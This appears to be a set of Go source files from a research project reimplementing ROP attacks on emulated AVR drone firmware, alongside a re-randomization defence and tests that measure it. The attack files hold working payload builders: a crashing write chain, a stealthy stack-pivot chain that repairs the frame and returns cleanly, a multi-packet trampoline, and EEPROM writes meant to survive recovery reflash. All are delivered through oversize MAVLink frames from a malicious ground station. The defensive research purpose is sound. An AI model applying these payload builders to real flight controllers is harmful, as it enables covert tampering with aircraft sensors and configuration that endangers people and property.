	return true
}

// synthVals maps a Write onto a writer shape's popped registers: Y aims
// at Addr-QBase and the store registers carry the values.
func synthVals(wr *WriterShape, w Write) map[int]byte {
	y := w.Addr - uint16(wr.QBase)
	return map[int]byte{
		28:              byte(y),
		29:              byte(y >> 8),
		wr.StoreRegs[0]: w.Vals[0],
		wr.StoreRegs[1]: w.Vals[1],
		wr.StoreRegs[2]: w.Vals[2],
	}
}

// appendWriterRounds emits the load/store alternation for writes onto
// c, assuming the loader entry has already been returned into. final
// maps the last loader frame (terminating pivot aim, or junk).
func appendWriterRounds(c *chain, wr *WriterShape, writes []Write, final map[int]byte) {
	c.popFrame(wr.LoadPops, synthVals(wr, writes[0]))
	for _, w := range writes[1:] {
		c.ret(wr.StoreAddr)
		if !wr.Fused {
			c.popFrame(wr.TailPops, nil)
			c.ret(wr.LoadAddr)
		}
		c.popFrame(wr.LoadPops, synthVals(wr, w))
	}
	c.ret(wr.StoreAddr)
	if !wr.Fused {
		c.popFrame(wr.TailPops, nil)
		if final != nil {
			c.ret(wr.LoadAddr)
		}
	}
	if final != nil {
		c.popFrame(wr.LoadPops, final)
	}
}

// landingPayloadFor builds a V1-grade payload: the overwritten return
// address enters the writer, the writes execute, the chain ends in
// garbage and the board crashes with the write landed.
func landingPayloadFor(a *Analysis, wr *WriterShape, writes ...Write) ([]byte, error) {
	if len(writes) == 0 {
		return nil, fmt.Errorf("attack: synthesis needs at least one write")
	}
	var c chain
	c.ret(wr.LoadAddr)
	appendWriterRounds(&c, wr, writes, nil)
	if wr.Fused {
		c.popFrame(wr.LoadPops, nil)
	}
	c.ret(0x3FFFFF)

	p := make([]byte, a.PayloadLen(), 256)
	for i := range p {
		p[i] = 0x42
	}
	copy(p[a.retSlot():], c.buf[:3])
	p = append(p, c.buf[3:]...)
	if len(p) > 255 {
		return nil, ErrPayloadTooLong
	}
	if int(a.S0)+len(p)-a.retSlot() > avr.DataSpaceSize-1 {
		return nil, ErrPayloadTooLong
	}
	return p, nil
}

// stealthPayloadFor builds a V2-grade payload: pivot into the buffer,
// perform the write, repair the frame for pv and return cleanly.
func stealthPayloadFor(a *Analysis, pv *gadget.StkMove, wr *WriterShape, userWrites ...Write) ([]byte, error) {
	writes := append(append([]Write(nil), userWrites...), repairWritesFor(a, pv)...)
	finalSP := cleanSPFor(a, pv)
	var c chain
	c.popFrame(pv.PopRegs, nil) // consumed by the pivoting stk_move's own tail
	c.ret(wr.LoadAddr)
	appendWriterRounds(&c, wr, writes, map[int]byte{
		28: byte(finalSP),
		29: byte(finalSP >> 8),
	})
	c.ret(pv.Addr)
	return assembleSynthPivot(a, pv, c.buf, a.BufAddr)
}

// assembleSynthPivot is assemblePivotPayload generalized to an
// arbitrary pivot shape: the saved slots of the registers the pivot
// reads into SPH/SPL carry the buffer address, the return slot carries
// the pivot entry.
func assembleSynthPivot(a *Analysis, pv *gadget.StkMove, ch []byte, pivotTo uint16) ([]byte, error) {
	hSlot, lSlot := a.popSlot(pv.SPHReg), a.popSlot(pv.SPLReg)
	if hSlot < 0 || lSlot < 0 {
		return nil, fmt.Errorf("%w: r%d/r%d", ErrPivotUnsaved, pv.SPHReg, pv.SPLReg)
	}
	limit := hSlot
	if lSlot < limit {
		limit = lSlot
	}
	if len(ch) > limit {
		return nil, fmt.Errorf("%w: chain %d bytes, frame allows %d", ErrPayloadTooLong, len(ch), limit)
	}
	p := make([]byte, a.PayloadLen())
	for i := range p {
		p[i] = 0x42
	}
	copy(p, ch)
	pivot := pivotTo - 1
	p[lSlot] = byte(pivot)
	p[hSlot] = byte(pivot >> 8)
	rs := a.retSlot()
	p[rs] = byte(pv.Addr >> 16)
	p[rs+1] = byte(pv.Addr >> 8)
	p[rs+2] = byte(pv.Addr)
	return p, nil
}

// Emulator probing. A crashed candidate faults within a few hundred
// thousand cycles; the budget only bounds chains that hang the firmware
// without faulting.
const (
	synthDrainBudget  = 8_000_000
	synthSettleMargin = 300_000
)

type probeOutcome struct {
	fault   *avr.Fault
	drained bool
	landed  bool
}

func (p probeOutcome) clean() bool { return p.fault == nil && p.drained }

func (p probeOutcome) outcome() string {
	switch {
	case p.landed && p.clean():
		return "landed-clean"
	case p.landed:
		return "landed-crash"
	case p.fault != nil:
		return "crashed"
	default:
		return "no-effect"
	}
}

// probePayload boots a fresh copy of the target (Reset), delivers the
// payload and classifies the outcome against the expected write.
func probePayload(sim *Sim, image, payload []byte, w Write) probeOutcome {
	var pr probeOutcome
	if err := sim.Reset(image); err != nil {
		return pr
	}
	sim.SendFrame(Frame(payload))
	drained, fault := sim.CPU.RunUntil(synthDrainBudget, func(*avr.CPU) bool { return len(sim.rx) == 0 })
	pr.drained = drained
	pr.fault = fault
	if pr.clean() {
		pr.fault = sim.Run(synthSettleMargin)
	}
	pr.landed = sim.CPU.Data[w.Addr] == w.Vals[0] &&
		sim.CPU.Data[w.Addr+1] == w.Vals[1] &&
		sim.CPU.Data[w.Addr+2] == w.Vals[2]
	return pr
}

// CostPoint is one row of the attack-synthesis cost curve: the budget
// spent searching for a chain against the victim's layout at a given
// re-randomization epoch.
type CostPoint struct {
	// Epoch 0 is the layout the attacker analyzed; epoch e>0 is the
	// victim after e re-randomizations (stale knowledge).
	Epoch int `json:"epoch"`
	// Attempts spent (bounded by the budget).
	Attempts int `json:"attempts"`
	// Blind counts the attempts that were blind candidate probes, fired
	// after the stale shape set was exhausted without a hit.
	Blind int `json:"blind,omitempty"`
	// Found and Stealthy report the search outcome at this epoch.
	Found    bool `json:"found"`
	Stealthy bool `json:"stealthy"`
}

// SynthesisCostCurve measures synthesis cost against successive
// re-randomization epochs of app: epoch 0 probes the very binary the
// shapes were extracted from (cheap), later epochs replay the same
// stale candidate set against freshly permuted layouts — the paper's n!
// argument as a measured curve rather than a combinatorial bound.
func SynthesisCostCurve(app firmware.AppSpec, epochs, budget int, seed int64) ([]CostPoint, error) {
	img, err := firmware.Generate(app, firmware.ModeMAVR)
	if err != nil {
		return nil, err
	}
	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		return nil, err
	}
	rng := rand.New(rand.NewSource(seed))
	var points []CostPoint
	for e := 0; e <= epochs; e++ {
		target := img.Flash
		if e > 0 {
			r, err := core.Randomize(pre, core.Permutation(rng, len(pre.Blocks)))
			if err != nil {
				return nil, err
			}
			target = r.Image
		}
		res, err := SynthesizeAgainst(img.ELF, target, SynthOptions{
			Stealth: true, MaxAttempts: budget, Seed: seed,
		})
		if err != nil {
			return nil, err
		}
		pt := CostPoint{Epoch: e, Attempts: res.Attempts, Found: res.Found, Stealthy: res.Stealthy}
		if !res.Found {
			// Every stale shape misfired: the attacker is reduced to blind
			// probing fresh candidate addresses — one observable crash per
			// guess against an n!-sized layout space (§VIII-A) — until the
			// budget runs out.
			blind, found, perr := blindProbes(img.ELF, target, budget-pt.Attempts, seed+int64(e))
			if perr != nil {
				return nil, perr
			}
			pt.Blind = blind
			pt.Attempts += blind
			pt.Found = found
		}
		points = append(points, pt)
	}
	return points, nil
}

// blindProbes fires V1-grade probes at assumed-shape candidates drawn
// deterministically over the target's word space, reporting probes
// spent and whether one landed.
func blindProbes(elf *elfobj.File, target []byte, budget int, seed int64) (int, bool, error) {
	if budget <= 0 {
		return 0, false, nil
	}
	frame, err := AnalyzeFrame(elf)
	if err != nil {
		return 0, false, err
	}
	sim, err := NewSim(target)
	if err != nil {
		return 0, false, err
	}
	marker := Write{Addr: firmware.AddrGyroCfg, Vals: [3]byte{0x5A, 0xA5, 0x3C}}
	words := uint64(len(target) / 2)
	for i := 1; i <= budget; i++ {
		c := uint32(mix64(seed, uint64(i)) % words)
		payload, err := BuildV1(frame.AssumeWriteMem(c), marker)
		if err != nil {
			return i, false, err
		}
		if probePayload(sim, target, payload, marker).landed {
			return i, true, nil
		}
	}
	return budget, false, nil
}
