package attack

import (
	"mavr/internal/firmware"
	"mavr/internal/gadget"
)

// This file implements the §VIII-A derandomization experiment as an
// end-to-end attack rather than an abstract model: an attacker who does
// NOT have the (randomized) binary probes candidate gadget addresses
// one crash at a time. Against a layout fixed at flash time, every
// probe durably eliminates one candidate — the information leak the
// paper cites as the reason a software-only deployment fails. Against
// MAVR, the failed probe itself triggers re-randomization, so the leak
// evaporates.

// HuntResult reports one gadget-hunting campaign.
type HuntResult struct {
	// Probes is the number of attack packets sent (each costing a crash
	// on a miss).
	Probes int
	// Found reports whether the write landed within the probe budget.
	Found bool
	// Addr is the discovered gadget word address when Found.
	Addr uint32
}

// assumedWriteMem builds the gadget description an attacker *assumes*
// at candidate address c: the common epilogue shape (three std Y+q
// stores at c, pop chain at c+3 reloading Y and the stored registers).
func assumedWriteMem(c uint32) *gadget.WriteMem {
	return &gadget.WriteMem{
		StoreAddr: c,
		PopsAddr:  c + 3,
		StoreRegs: [3]int{5, 6, 7},
		PopRegs:   []int{29, 28, 17, 16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4},
	}
}

// AssumeWriteMem returns a copy of the analysis whose write_mem gadget
// is replaced with the shape a blind attacker assumes at candidate
// word address c (§VIII-A derandomization probing). Payloads built
// from the copy are the probes a gadget-hunting campaign fires.
func (a *Analysis) AssumeWriteMem(c uint32) *Analysis {
	trial := *a
	trial.WriteMem = assumedWriteMem(c)
	return &trial
}

// probeOnce boots a fresh copy of image (the victim power-cycles after
// each crashed probe), fires a V1-style probe built on the candidate
// gadget, and reports whether the marker write landed.
func probeOnce(image []byte, geom *Analysis, candidate uint32, marker byte) (bool, error) {
	payload, err := BuildV1(geom.AssumeWriteMem(candidate), GyroCfgWrite(marker))
	if err != nil {
		return false, err
	}
	sim, err := NewSim(image)
	if err != nil {
		return false, err
	}
	_ = sim.Deliver(Frame(payload), 200_000)
	return sim.CPU.Data[firmware.AddrGyroCfg] == marker, nil
}

// HuntFixedLayout probes candidates against a layout that never
// changes (the §VIII-A software-only deployment): each miss is
// eliminated forever, so the expected cost is half the candidate space.
func HuntFixedLayout(image []byte, geom *Analysis, candidates []uint32, marker byte) (HuntResult, error) {
	var res HuntResult
	for _, c := range candidates {
		res.Probes++
		hit, err := probeOnce(image, geom, c, marker)
		if err != nil {
			return res, err
		}
		if hit {
			res.Found = true
			res.Addr = c
			return res, nil
		}
	}
	return res, nil
}

// HuntRerandomized probes candidates against a victim that
// re-randomizes after every detected failure (MAVR): the layout each
// probe sees is freshly drawn, so eliminations don't accumulate.
// nextImage must return the victim's image for the next probe.
func HuntRerandomized(nextImage func() ([]byte, error), geom *Analysis, candidates []uint32, marker byte) (HuntResult, error) {
	var res HuntResult
	for _, c := range candidates {
		res.Probes++
		image, err := nextImage()
		if err != nil {
			return res, err
		}
		hit, err := probeOnce(image, geom, c, marker)
		if err != nil {
			return res, err
		}
		if hit {
			res.Found = true
			res.Addr = c
			return res, nil
		}
	}
	return res, nil
}
