package attack_test

import (
	"testing"

	"mavr/internal/attack"
	"mavr/internal/firmware"
)

// The patched firmware (length check restored, paper §IV-B's bug
// removed) defeats every attack generation: the copy is clamped to the
// buffer, so the frame is never smashed.
func TestAllAttacksFailOnPatchedFirmware(t *testing.T) {
	// The attacker analyzed the VULNERABLE build (what they have).
	vuln := genImage(t)
	a := analyze(t, vuln)

	patched := firmware.TestApp()
	patched.Vulnerable = false
	img, err := firmware.Generate(patched, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}

	v1, err := attack.BuildV1(a, attack.GyroCfgWrite(0x31))
	if err != nil {
		t.Fatal(err)
	}
	v2, err := attack.BuildV2(a, attack.GyroCfgWrite(0x32))
	if err != nil {
		t.Fatal(err)
	}
	for name, payload := range map[string][]byte{"v1": v1, "v2": v2} {
		sim, err := attack.NewSim(img.Flash)
		if err != nil {
			t.Fatal(err)
		}
		fault := sim.Deliver(attack.Frame(payload), 300_000)
		if fault != nil {
			t.Errorf("%s: clamped firmware crashed: %v", name, fault)
		}
		if got := sim.CPU.Data[firmware.AddrGyroCfg]; got == 0x31 || got == 0x32 {
			t.Errorf("%s: write landed on clamped firmware (0x%02X)", name, got)
		}
	}
}

// Different generation seeds produce different layouts, so a payload
// keyed to one build's addresses cannot be reused across builds — the
// reason the attacker needs "access to the application binary that is
// uploaded on the board" (§IV-A assumption 3).
func TestLayoutVariesAcrossSeeds(t *testing.T) {
	a := genImage(t)
	spec := firmware.TestApp()
	spec.Seed = 0x5EED
	b, err := firmware.Generate(spec, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	aa, err := attack.Analyze(a.ELF)
	if err != nil {
		t.Fatal(err)
	}
	ab, err := attack.Analyze(b.ELF)
	if err != nil {
		t.Fatal(err)
	}
	if aa.StkMove.Addr == ab.StkMove.Addr && aa.WriteMem.StoreAddr == ab.WriteMem.StoreAddr {
		t.Error("gadget addresses identical across seeds — layouts do not vary")
	}
	// The frame geometry, however, is an artifact of the source code
	// and identical — which is why geometry survives randomization and
	// only addresses protect the system.
	if aa.FrameBytes != ab.FrameBytes || len(aa.PushRegs) != len(ab.PushRegs) {
		t.Error("handler geometry differs across seeds (should be source-determined)")
	}
}
