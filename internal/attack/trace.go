package attack

import (
	"fmt"
	"strings"
)

// Snapshot is one stage of the stack progression during the stealthy
// attack, mirroring the paper's Fig. 6.
type Snapshot struct {
	Label string
	SP    uint16
	// Window is the stack content from SP-4 through SP+18.
	Base   uint16
	Window []byte
}

func (s Snapshot) String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-46s SP=0x%04X\n", s.Label, s.SP)
	for i := 0; i < len(s.Window); i += 8 {
		end := i + 8
		if end > len(s.Window) {
			end = len(s.Window)
		}
		fmt.Fprintf(&sb, "  0x%04X:", s.Base+uint16(i))
		for _, b := range s.Window[i:end] {
			fmt.Fprintf(&sb, " 0x%02X", b)
		}
		sb.WriteByte('\n')
	}
	return sb.String()
}

// TraceV2 runs the stealthy attack against the attacker's own copy of
// the firmware, capturing stack snapshots at the same stages as the
// paper's Fig. 6: clean stack at handler entry, dirty stack after the
// payload copy, after the first stk_move pivot, during payload
// execution, before the repair stores, and after the clean return.
func TraceV2(a *Analysis, image []byte, w Write) ([]Snapshot, error) {
	sim, err := NewSim(image)
	if err != nil {
		return nil, err
	}
	payload, err := BuildV2(a, w)
	if err != nil {
		return nil, err
	}
	sim.SendFrame(Frame(payload))

	snap := func(label string) Snapshot {
		sp := sim.CPU.SP()
		base := sp - 4
		win := make([]byte, 23)
		for i := range win {
			addr := int(base) + i
			if addr < len(sim.CPU.Data) {
				win[i] = sim.CPU.Data[addr]
			}
		}
		return Snapshot{Label: label, SP: sp, Base: base, Window: win}
	}

	var out []Snapshot
	step := func(label string, pc uint32, budget uint64) error {
		ok, fault := sim.RunUntilPC(pc, budget)
		if !ok {
			return fmt.Errorf("attack: trace never reached %s (fault: %v)", label, fault)
		}
		out = append(out, snap(label))
		return nil
	}

	if err := step("(i) clean stack at handler entry", a.HandlerAddr, 20_000_000); err != nil {
		return nil, err
	}
	// (ii) dirty stack: run until the first stk_move (the handler's own
	// epilogue has consumed the overwritten saved registers by then).
	if err := step("(ii)/(iii) after payload injection, entering gadget1 (stk_move)", a.StkMove.Addr, 1_000_000); err != nil {
		return nil, err
	}
	if err := step("(iv) payload executing: gadget2 pop half", a.WriteMem.PopsAddr, 1_000_000); err != nil {
		return nil, err
	}
	if err := step("(v) gadget2 store half (write + repair stores)", a.WriteMem.StoreAddr, 1_000_000); err != nil {
		return nil, err
	}
	if err := step("(vi) gadget1 again: move SP back to original location", a.StkMove.Addr, 1_000_000); err != nil {
		return nil, err
	}
	if err := step("(vii) repaired stack, continued execution", a.OrigRet, 1_000_000); err != nil {
		return nil, err
	}
	return out, nil
}
