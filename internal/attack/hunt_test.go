package attack_test

import (
	"math/rand"
	"testing"

	"mavr/internal/attack"
	"mavr/internal/core"
)

// §VIII-A end to end: probing the gadget address learned from the
// unprotected binary hits a fixed (flash-time-randomized-once) layout
// every time once discovered — each crashed probe durably eliminates a
// candidate. Against MAVR the layout is re-drawn after every failed
// probe, so the learned address only works when some write-mem-shaped
// epilogue happens to land there: a drastically lower hit rate.
func TestGadgetHuntFixedVsRerandomized(t *testing.T) {
	img := genImage(t)
	geom := analyze(t, img)
	trueAddr := geom.WriteMem.StoreAddr
	const trials = 20

	// Fixed layout: the stale address keeps working forever.
	fixedHits := 0
	for i := 0; i < trials; i++ {
		res, err := attack.HuntFixedLayout(img.Flash, geom, []uint32{trueAddr}, 0x77)
		if err != nil {
			t.Fatal(err)
		}
		if res.Found {
			fixedHits++
		}
	}
	if fixedHits != trials {
		t.Fatalf("fixed layout: stale gadget hit %d/%d probes, want all", fixedHits, trials)
	}

	// MAVR: one fresh permutation per probe.
	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(17))
	next := func() ([]byte, error) {
		r, err := core.Randomize(pre, core.Permutation(rng, len(pre.Blocks)))
		if err != nil {
			return nil, err
		}
		return r.Image, nil
	}
	rerHits := 0
	for i := 0; i < trials; i++ {
		res, err := attack.HuntRerandomized(next, geom, []uint32{trueAddr}, 0x77)
		if err != nil {
			t.Fatal(err)
		}
		if res.Found {
			rerHits++
		}
	}
	t.Logf("stale-address hit rate: fixed %d/%d, re-randomized %d/%d", fixedHits, trials, rerHits, trials)
	if rerHits*2 >= trials {
		t.Errorf("re-randomized hit rate %d/%d — re-randomization is not degrading the leak", rerHits, trials)
	}
}

// Sanity: a probe with the correct gadget address lands even when the
// attacker assumed (rather than extracted) the gadget shape.
func TestHuntProbeAssumedShapeWorks(t *testing.T) {
	img := genImage(t)
	geom := analyze(t, img)
	res, err := attack.HuntFixedLayout(img.Flash, geom, []uint32{geom.WriteMem.StoreAddr}, 0x3C)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Found || res.Probes != 1 {
		t.Fatalf("direct probe failed: %+v", res)
	}
}
