package attack

import (
	"fmt"

	"mavr/internal/avr"
	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

// BuildV1 constructs the basic ROP payload (§IV-C): the overwritten
// return address enters the write_mem combination gadget (pop half
// first, then store half) to perform the arbitrary 3-byte writes, and
// the chain then returns into garbage — the stack frames stay
// destroyed and the board crashes, the drawback V2 fixes.
func BuildV1(a *Analysis, writes ...Write) ([]byte, error) {
	if len(writes) == 0 {
		return nil, fmt.Errorf("attack: V1 needs at least one write")
	}
	p := make([]byte, a.PayloadLen(), 256)
	for i := range p {
		p[i] = 0x42 // garbage filler, as in the paper's description
	}
	var c chain
	// The handler's own epilogue pops run first; their slots are junk.
	c.ret(a.WriteMem.PopsAddr)
	c.popFrame(a.WriteMem.PopRegs, writeVals(a, writes[0]))
	for _, w := range writes[1:] {
		c.ret(a.WriteMem.StoreAddr)
		c.popFrame(a.WriteMem.PopRegs, writeVals(a, w))
	}
	c.ret(a.WriteMem.StoreAddr)
	// The store half's pop tail consumes junk and its ret lands in
	// garbage — the destroyed-stack behaviour of §IV-C.
	c.popFrame(a.WriteMem.PopRegs, nil)
	c.ret(0x3FFFFF)
	copy(p[a.retSlot():], c.buf[:3])
	p = append(p, c.buf[3:]...)
	if len(p) > 255 {
		return nil, ErrPayloadTooLong
	}
	// The chain above the return slot must stay inside SRAM.
	if int(a.S0)+len(p)-a.retSlot() > avr.DataSpaceSize-1 {
		return nil, ErrPayloadTooLong
	}
	return p, nil
}

// BuildV2 constructs the stealthy clean-return payload (§IV-D): the
// overwritten saved r28/r29 aim the stk_move gadget at the overflowed
// buffer itself, the pivoted chain performs userWrites, then repairs
// the smashed frame and returns to the handler's original caller.
func BuildV2(a *Analysis, userWrites ...Write) ([]byte, error) {
	writes := append(append([]Write(nil), userWrites...), repairWrites(a)...)
	ch, err := buildChain(a, writes, a.cleanReturnSP())
	if err != nil {
		return nil, err
	}
	return assemblePivotPayload(a, ch, a.BufAddr)
}

// BuildV3 constructs the trampoline attack (§IV-E): a sequence of
// stealthy V2 packets stages an arbitrarily large chain into unused
// SRAM at stageAddr, and a final pivot-only packet executes it. The
// staged chain performs all bigWrites and still ends with the frame
// repair and clean return, so the whole multi-packet attack is
// invisible to the ground station.
func BuildV3(a *Analysis, bigWrites []Write, stageAddr uint16) ([][]byte, error) {
	writes := append(append([]Write(nil), bigWrites...), repairWrites(a)...)
	staged, err := buildChain(a, writes, a.cleanReturnSP())
	if err != nil {
		return nil, err
	}
	var packets [][]byte
	for off := 0; off < len(staged); off += 3 {
		var w Write
		w.Addr = stageAddr + uint16(off)
		for i := 0; i < 3; i++ {
			if off+i < len(staged) {
				w.Vals[i] = staged[off+i]
			} else {
				w.Vals[i] = 0x61
			}
		}
		p, err := BuildV2(a, w)
		if err != nil {
			return nil, fmt.Errorf("attack: staging packet at +%d: %w", off, err)
		}
		packets = append(packets, p)
	}
	// Final packet: pivot straight into the staged chain.
	final, err := assemblePivotPayload(a, nil, stageAddr)
	if err != nil {
		return nil, err
	}
	return append(packets, final), nil
}

// StagedChainLen reports how long the V3 staged chain for n big writes
// is, so examples can size the staging area.
func StagedChainLen(a *Analysis, n int) int {
	per := len(a.WriteMem.PopRegs) + 3
	return len(a.StkMove.PopRegs) + 3 + per*(n+2) + 3
}

// assemblePivotPayload lays out an overflow payload that (1) embeds
// chain at the buffer start, (2) loads the saved-r28/r29 slots with
// pivotTo-1 and (3) overwrites the return address with the stk_move
// gadget. The handler's epilogue then pivots SP to pivotTo-1 and the
// chain (at pivotTo) executes.
func assemblePivotPayload(a *Analysis, ch []byte, pivotTo uint16) ([]byte, error) {
	p := make([]byte, a.PayloadLen())
	for i := range p {
		p[i] = 0x42
	}
	// The final ret slot of an in-buffer chain may overlap the r16/r17
	// pop slots (harmless) but never the r28/r29 or return slots.
	limit := a.popSlot(28)
	if s := a.popSlot(29); s < limit {
		limit = s
	}
	if len(ch) > limit {
		return nil, fmt.Errorf("%w: chain %d bytes, frame allows %d", ErrPayloadTooLong, len(ch), limit)
	}
	copy(p, ch)
	pivot := pivotTo - 1
	p[a.popSlot(28)] = byte(pivot)
	p[a.popSlot(29)] = byte(pivot >> 8)
	rs := a.retSlot()
	p[rs] = byte(a.StkMove.Addr >> 16)
	p[rs+1] = byte(a.StkMove.Addr >> 8)
	p[rs+2] = byte(a.StkMove.Addr)
	return p, nil
}

// Frame wraps a payload in the oversize MAVLink PARAM_SET frame the
// malicious ground station transmits.
func Frame(payload []byte) *mavlink.Frame {
	return &mavlink.Frame{
		MsgID:   mavlink.MsgIDParamSet,
		SysID:   255, // ground station
		Payload: payload,
	}
}

// GyroCfgWrite is the paper's demonstration write: corrupt the gyro
// configuration byte for a continuous effect on the reported attitude.
// The two adjacent bytes receive the gadget's other two stores.
func GyroCfgWrite(v byte) Write {
	return Write{Addr: firmware.AddrGyroCfg, Vals: [3]byte{v, 0, 0}}
}

// EEPROMCfgWrites drives the memory-mapped EEPROM controller through
// the write gadget: the first write stages EEDR and EEAR, the second
// strobes EECR (re-storing the staged bytes harmlessly). The result
// persists in EEPROM — damage that survives even MAVR's recovery
// reflash, because the firmware reloads its configuration from EEPROM
// at boot. Possible whenever the attacker has randomization-immune
// gadgets (the §VI-B4 resident bootloader); hardware ISP removes them.
func EEPROMCfgWrites(eepromAddr, v byte) []Write {
	return []Write{
		// EEDR = v, EEARL = eepromAddr, EEARH = 0.
		{Addr: avr.AddrEEDR, Vals: [3]byte{v, eepromAddr, 0}},
		// EECR = EEMPE|EEPE (strobe), then EEDR/EEARL re-staged.
		{Addr: avr.AddrEECR, Vals: [3]byte{1<<avr.BitEEMPE | 1<<avr.BitEEPE, v, eepromAddr}},
	}
}
