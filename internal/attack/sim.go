// Package attack constructs the MAVR paper's three ROP attack
// generations against the simulated APM firmware (§IV):
//
//   - V1: a classic write-mem ROP chain that corrupts the gyroscope
//     configuration and leaves the stack smashed (the board then
//     executes garbage).
//   - V2: the stealthy attack — the stk_move gadget pivots SP into the
//     overflowed buffer, the chain performs its writes, repairs the
//     smashed frame with write_mem_gadget invocations and returns
//     cleanly to the victim's original return address.
//   - V3: the trampoline attack — repeated stealthy packets stage an
//     arbitrarily large chain into unused SRAM, then one final packet
//     pivots into it.
//
// The attacker's capabilities follow the paper's threat model: access
// to the unprotected application binary (with symbols), and a malicious
// ground station that can send arbitrary MAVLink bytes.
package attack

import (
	"mavr/internal/avr"
	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

// Sim is the attacker's offline copy of the victim system: the paper's
// attacker analyzes and test-runs the binary they possess before
// attacking the live UAV.
type Sim struct {
	CPU  *avr.CPU
	Gyro byte // raw sensor sample fed to the firmware

	rx []byte
	tx []byte
}

// NewSim boots image on a fresh simulated application processor with a
// scripted UART.
func NewSim(image []byte) (*Sim, error) {
	s := &Sim{CPU: avr.New(), Gyro: 10}
	if err := s.CPU.LoadFlash(image); err != nil {
		return nil, err
	}
	s.CPU.HookRead(firmware.AddrUCSR0A, func(byte) byte {
		v := byte(1 << firmware.BitUDRE)
		if len(s.rx) > 0 {
			v |= 1 << firmware.BitRXC
		}
		return v
	})
	s.CPU.HookRead(firmware.AddrUDR0, func(byte) byte {
		if len(s.rx) == 0 {
			return 0
		}
		b := s.rx[0]
		s.rx = s.rx[1:]
		return b
	})
	s.CPU.HookWrite(firmware.AddrUDR0, func(v byte) { s.tx = append(s.tx, v) })
	s.CPU.HookRead(firmware.AddrADCL, func(byte) byte { return s.Gyro })
	return s, nil
}

// Reset reloads image and returns the simulator to power-on state,
// reusing the CPU and its memories (flash, data space, decode cache,
// I/O hooks). Sweeps that boot one randomized layout per trial should
// prefer this over allocating a fresh Sim per iteration.
func (s *Sim) Reset(image []byte) error {
	if err := s.CPU.LoadFlash(image); err != nil {
		return err
	}
	s.CPU.Reset()
	s.rx = s.rx[:0]
	s.tx = s.tx[:0]
	return nil
}

// Send queues raw serial bytes for the firmware to receive.
func (s *Sim) Send(data []byte) { s.rx = append(s.rx, data...) }

// SendFrame queues a MAVLink frame (oversize frames allowed — that is
// the attack vector).
func (s *Sim) SendFrame(f *mavlink.Frame) { s.Send(f.MarshalOversize()) }

// TX returns everything the firmware transmitted so far.
func (s *Sim) TX() []byte { return s.tx }

// RxDrained reports whether the firmware consumed all queued bytes.
func (s *Sim) RxDrained() bool { return len(s.rx) == 0 }

// Run executes up to maxCycles and returns the fault, if any.
func (s *Sim) Run(maxCycles uint64) *avr.Fault {
	_, fault := s.CPU.Run(maxCycles)
	return fault
}

// RunUntilPC executes until the program counter reaches pc (a word
// address), reporting whether it was reached.
func (s *Sim) RunUntilPC(pc uint32, maxCycles uint64) (bool, *avr.Fault) {
	return s.CPU.RunUntil(maxCycles, func(c *avr.CPU) bool { return c.PC == pc })
}

// Deliver queues a frame, runs until the firmware has consumed it and
// then lets a settle margin elapse, returning any fault. This is how
// the attacker replays packets quickly against their offline copy.
func (s *Sim) Deliver(f *mavlink.Frame, margin uint64) *avr.Fault {
	s.SendFrame(f)
	drained, fault := s.CPU.RunUntil(50_000_000, func(*avr.CPU) bool { return len(s.rx) == 0 })
	if fault != nil {
		return fault
	}
	if !drained {
		return &avr.Fault{Kind: avr.FaultCycleBudget, PC: s.CPU.PC, Cycle: s.CPU.Cycles}
	}
	return s.Run(margin)
}
