package attack

import (
	"errors"
	"testing"

	"mavr/internal/avr"
	"mavr/internal/firmware"
	"mavr/internal/gadget"
)

func testImage(t *testing.T) *firmware.Image {
	t.Helper()
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

// An empty scan yields no writer candidates, and synthesis surfaces the
// exhausted search space as ErrNoWriterShapes.
func TestWriterCandidatesEmpty(t *testing.T) {
	if ws := writerCandidates(nil); len(ws) != 0 {
		t.Errorf("writerCandidates(nil) = %+v", ws)
	}
	var s Synthesis
	if _, err := s.PayloadFor(Write{Addr: 0x200, Vals: [3]byte{1, 2, 3}}); !errors.Is(err, ErrNoWriterShapes) {
		t.Errorf("PayloadFor without a writer = %v, want ErrNoWriterShapes", err)
	}
}

// The split (loader-borrowed) writer composition must execute on the
// emulator: build one artificially from the canonical gadget's two
// halves treated as separate gadgets — semantically the same
// alternation with extra junk frames — and land a write with it.
func TestSplitWriterCompositionLands(t *testing.T) {
	img := testImage(t)
	a, err := Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	wr := &WriterShape{
		LoadAddr:  a.WriteMem.PopsAddr,
		LoadPops:  a.WriteMem.PopRegs,
		StoreAddr: a.WriteMem.StoreAddr,
		StoreRegs: a.WriteMem.StoreRegs,
		QBase:     1,
		TailPops:  a.WriteMem.PopRegs,
		Fused:     false,
	}
	w := Write{Addr: firmware.AddrFreeMem + 0x20, Vals: [3]byte{0xDE, 0xAD, 0x7F}}
	p, err := landingPayloadFor(a, wr, w)
	if err != nil {
		t.Fatal(err)
	}
	sim, err := NewSim(img.Flash)
	if err != nil {
		t.Fatal(err)
	}
	pr := probePayload(sim, img.Flash, p, w)
	if !pr.landed {
		t.Errorf("split-writer chain did not land: %+v", pr)
	}

	// And through a stealthy pivot as well — unless the doubled chain
	// (loader frames twice per write) legitimately outgrows the frame, in
	// which case the builder must say so rather than emit a broken chain.
	sp, err := stealthPayloadFor(a, a.StkMove, wr, w)
	if errors.Is(err, ErrPayloadTooLong) {
		t.Logf("split stealth chain does not fit the frame (expected on small frames): %v", err)
		return
	}
	if err != nil {
		t.Fatal(err)
	}
	pr = probePayload(sim, img.Flash, sp, w)
	if !pr.landed || !pr.clean() {
		t.Errorf("split-writer stealth chain outcome %q, want landed-clean", pr.outcome())
	}
}

// No-viable-stack-layout cases: a pivot whose SP-source registers the
// handler never saves cannot be aimed from the overflow, and a pivot
// with an enormous pop tail pushes the chain past the frame.
func TestStealthPayloadNoViableLayout(t *testing.T) {
	img := testImage(t)
	a, err := Analyze(img.ELF)
